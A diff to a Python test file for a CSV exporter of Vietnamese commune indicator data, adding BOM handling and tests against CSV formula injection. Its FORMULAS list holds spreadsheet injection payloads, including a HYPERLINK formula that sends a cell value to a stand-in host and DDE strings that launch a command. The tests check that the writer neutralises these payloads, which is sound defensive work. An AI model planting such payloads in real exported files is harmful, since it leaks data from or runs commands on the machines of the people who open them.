@@ -3,7 +3,13 @@
 from __future__ import annotations
 
 import csv
+import shutil
+import subprocess
+from dataclasses import replace
 from datetime import date, datetime
+
+import openpyxl
+import pytest
 
 from ntm_excel.issues import make_issue
 from ntm_excel.model import (
@@ -117,13 +123,17 @@ def consolidation() -> Consolidation:
 
 
 def read(path) -> list[list[str]]:
-    with path.open(encoding="utf-8", newline="") as file:
+    with path.open(encoding="utf-8-sig", newline="") as file:
         return list(csv.reader(file))
+
+
+def visible(folder) -> list[str]:
+    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("."))
 
 
 def test_writes_exactly_five_files_with_their_headers(tmp_path):
     written = write_csv(consolidation(), tmp_path / "csv")
-    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == sorted(
+    assert visible(tmp_path / "csv") == sorted(
         ["units.csv", "indicators.csv", "criteria.csv", "tasks.csv", "issues.csv"]
     )
     assert [p.name for p in written] == list(HEADERS)
@@ -170,7 +180,7 @@ def test_writes_exactly_five_files_with_their_headers(tmp_path):
         "message",
     ]
     raw = (tmp_path / "csv" / "units.csv").read_bytes()
-    assert not raw.startswith(b"\xef\xbb\xbf")
+    assert raw.startswith(b"\xef\xbb\xbfunit_code,")  # Excel then reads it as UTF-8
     assert "Xã Cẩm Thành".encode() in raw
 
 
@@ -191,7 +201,7 @@ def test_indicator_values_and_statuses(tmp_path):
         ["18694", "15.1", "85.5", "met", "met", "met"],
         ["18694", "10", "1234.5", "met", "met", "met"],
         ["18694", "4.2", "100", "met", "met", "met"],
-        ["18694", "1.1", '=HYPERLINK("x"), đã duyệt', "not_met", "unknown", "not_met"],
+        ["18694", "1.1", '\'=HYPERLINK("x"), đã duyệt', "not_met", "unknown", "not_met"],
         ["18694", "17.1", "", "unknown", "unknown", "unknown"],
         ["18694", "11", "0.0001", "met", "met", "met"],
     ]
@@ -229,4 +239,60 @@ def test_rewriting_replaces_the_files(tmp_path):
     data.district = None
     write_csv(data, tmp_path)
     assert len(read(tmp_path / "units.csv")) == 2
-    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(HEADERS)
+    assert visible(tmp_path) == sorted(HEADERS)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\t=2+2",
+    "\r=2+2",
+    "'=1+1",
+]
+
+
+def test_text_a_spreadsheet_would_run_gets_a_quote_numbers_stay_numbers(tmp_path):
+    """OWASP CSV injection: text that starts like a formula, as a commune may type it."""
+    data = consolidation()
+    report = data.units[0]
+    report.indicators = [result(f"1.{i}", text, Status.UNKNOWN) for i, text in enumerate(FORMULAS)]
+    report.indicators += [result("9.1", -3.0, Status.NOT_MET), result("9.2", 85.5, Status.MET)]
+    task = data.tasks[0].task
+    data.tasks[0] = TaskStatus(
+        replace(task, text='=HYPERLINK("x")', owners=("@Lê Ngọc Hà", "-Lê Văn Danh")),
+        TaskState.DUE_SOON,
+    )
+    write_csv(data, tmp_path)
+    values = [row[2] for row in read(tmp_path / "indicators.csv")[1:]]
+    assert values == ["'" + text for text in FORMULAS] + ["-3", "85.5"]
+    assert [value[1:] for value in values[: len(FORMULAS)]] == FORMULAS  # one quote off: as typed
+    plan = read(tmp_path / "tasks.csv")[1]
+    assert plan[3:6] == ['\'=HYPERLINK("x")', "2021-03-31", "'@Lê Ngọc Hà; -Lê Văn Danh"]
+
+
+@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
+def test_libreoffice_opens_the_csv_as_text_with_vietnamese_letters(tmp_path):
+    """Opened by a spreadsheet, every dangerous text stays a plain string (unquoted,
+    LibreOffice runs "=1+1"). LibreOffice is told the encoding; Excel reads it from the BOM."""
+    data = consolidation()
+    data.units[0].indicators = [
+        result(f"1.{i}", text, Status.UNKNOWN) for i, text in enumerate(FORMULAS)
+    ] + [result("9.1", -3.0, Status.NOT_MET)]
+    write_csv(data, tmp_path / "csv")
+    profile = (tmp_path / "profile").as_uri()
+    subprocess.run(
+        ["soffice", "--headless", f"-env:UserInstallation={profile}",
+         "--infilter=CSV:44,34,76", "--convert-to", "xlsx",
+         "--outdir", str(tmp_path), str(tmp_path / "csv" / "indicators.csv")],
+        check=True, capture_output=True, timeout=180,
+    )  # fmt: skip
+    sheet = openpyxl.load_workbook(tmp_path / "indicators.xlsx").active
+    cells = [sheet.cell(row, 3) for row in range(2, sheet.max_row + 1)]
+    assert all(cell.data_type == "s" for cell in cells[: len(FORMULAS)])
+    shown = ["'" + text.replace("\r", "\n") for text in FORMULAS]  # a CR in a cell is a line
+    assert [cell.value for cell in cells[: len(FORMULAS)]] == shown
+    assert cells[-1].value == -3 and cells[-1].data_type == "n"
+    assert sheet["B1"].value == "indicator_code"  # the BOM is not read as part of the text
